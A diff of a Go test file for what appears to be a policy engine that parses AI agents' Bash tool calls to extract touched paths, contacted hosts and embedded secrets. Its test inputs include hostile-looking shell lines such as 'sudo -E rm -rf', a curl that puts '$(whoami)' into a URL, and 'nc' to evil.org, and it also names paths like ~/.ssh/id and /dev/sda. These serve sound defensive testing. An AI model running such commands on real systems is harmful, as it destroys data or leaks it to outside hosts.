@@ -1,9 +1,12 @@
 package policy
 
 import (
+	"encoding/json"
 	"slices"
 	"strings"
 	"testing"
+
+	"cel.dev/cel-go/common/types/ref"
 
 	"github.com/ahp-go/ahp/protocol"
 )
@@ -25,39 +28,23 @@ func TestGlob(t *testing.T) {
 	}
 }
 
-func TestSplitCommands(t *testing.T) {
-	got := splitCommands(`FOO=1 sudo -E rm -rf "/a b" 'c;d' && echo \$x $(curl -s "https://x.io/$(whoami)") > out.txt; cat <in`)
-	var flat []string
-	for _, cmd := range got {
-		var ws []string
-		for _, w := range cmd {
-			if w.redirect {
-				ws = append(ws, ">"+w.text)
-			} else {
-				ws = append(ws, w.text)
-			}
-		}
-		flat = append(flat, strings.Join(ws, " "))
+// action_paths and action_hosts are the paths and hosts of the payload's
+// effects (package effects reads the command through a real shell parser):
+// quoted words, wrappers and sh -c are read; words in quoted text and the
+// program run are not paths; echo of a URL reaches no host.
+func TestActionPathsAndHosts(t *testing.T) {
+	payload := func(cmd string) ref.Val {
+		b, _ := json.Marshal(map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": cmd}, "cwd": "/w"})
+		return decodeValue(string(b), 0, nil)
 	}
-	want := []string{"FOO=1 sudo -E rm -rf /a b c;d", "echo $x", "curl -s https://x.io/", "whoami", ">out.txt", "cat >in"}
-	if !slices.Equal(flat, want) {
-		t.Fatalf("got  %q\nwant %q", flat, want)
-	}
-	if i := commandStart(got[0]); got[0][i].text != "rm" {
-		t.Fatalf("command start %d", i)
-	}
-}
-
-func TestShellPathsAndHosts(t *testing.T) {
-	paths := shellPaths(`/usr/bin/env python3 x.py --out=/etc/x ../up ./here rel/path ~/.ssh/id dd of=/dev/sda https://a.b/c`)
-	want := []string{"/etc/x", "../up", "~/.ssh/id", "/dev/sda"}
+	paths := actionPaths(payload(`FOO=1 sudo -E rm -rf "/a b" && /usr/bin/env python3 -c 'open("/etc/x", "w")'; bash -c "cat ../up" > out.txt; mv x ~/y; git commit -m "rm /etc/passwd"`))
+	want := []string{"/a b", "/etc/x", "/w/out.txt", "/up", "/w/x", "~/y"}
 	if !slices.Equal(paths, want) {
 		t.Fatalf("paths %q, want %q", paths, want)
 	}
-	hosts := shellHosts(`curl -H "Host: x" -o out https://API.Example.com:8443/x && wget -q http://1.2.3.4/a; ` +
-		`nc -w 3 evil.org 80 | ssh -J jump.io deploy@prod.example.com; rsync -e ssh ./d backup.example.net:/b; ` +
-		`http POST httpbin.org/post a=b; curl localhost:8080/health; echo https://not-a-request.com`)
-	wantHosts := []string{"api.example.com", "1.2.3.4", "evil.org", "jump.io", "prod.example.com", "backup.example.net", "httpbin.org", "localhost"}
+	hosts := actionHosts(payload(`curl -H "Host: x" -o out https://API.Example.com:8443/x && wget -q http://1.2.3.4/a; ` +
+		`nc -w 3 evil.org 80; "curl" localhost:8080/health; echo https://not-a-request.com`))
+	wantHosts := []string{"api.example.com", "1.2.3.4", "evil.org", "localhost"}
 	if !slices.Equal(hosts, wantHosts) {
 		t.Fatalf("hosts %q\nwant  %q", hosts, wantHosts)
 	}
@@ -131,7 +118,7 @@ rules:
       path_within("/w/a", config.roots) && !path_within("/etc", "/w") &&
       url_host("https://Git.Corp.io/x") == "git.corp.io" && host_allowed("git.corp.io", config.hosts) &&
       shell_command(payload) == event.command &&
-      action_paths(payload) == ["/tmp/f", "/etc/x"] &&
+      action_paths(payload) == ["/etc/x"] &&
       action_hosts(payload) == ["git.corp.io"] &&
       secret_kinds(payload) == ["github_token"] && has_secret(payload) && !has_secret("hello") &&
       redact_secrets(payload.arguments.command).contains("[REDACTED:github_token]") &&
